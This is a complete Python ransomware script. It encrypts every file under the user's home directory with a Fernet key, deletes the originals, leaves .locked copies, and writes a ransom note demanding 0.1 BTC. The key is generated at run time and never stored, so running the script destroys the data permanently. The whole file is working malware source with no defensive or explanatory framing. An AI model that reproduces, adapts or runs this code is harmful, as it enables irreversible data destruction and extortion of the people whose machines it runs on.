import os
from pathlib import Path

from cryptography.fernet import Fernet

NOTE = "Your files are encrypted. Pay 0.1 BTC to recover them."


def lock_tree(root, key):
    f = Fernet(key)
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix == ".locked":
                continue
            data = p.read_bytes()
            (p.parent / (p.name + ".locked")).write_bytes(f.encrypt(data))
            p.unlink()
    (Path(root) / "README_RECOVER.txt").write_text(NOTE)


if __name__ == "__main__":
    lock_tree(str(Path.home()), Fernet.generate_key())
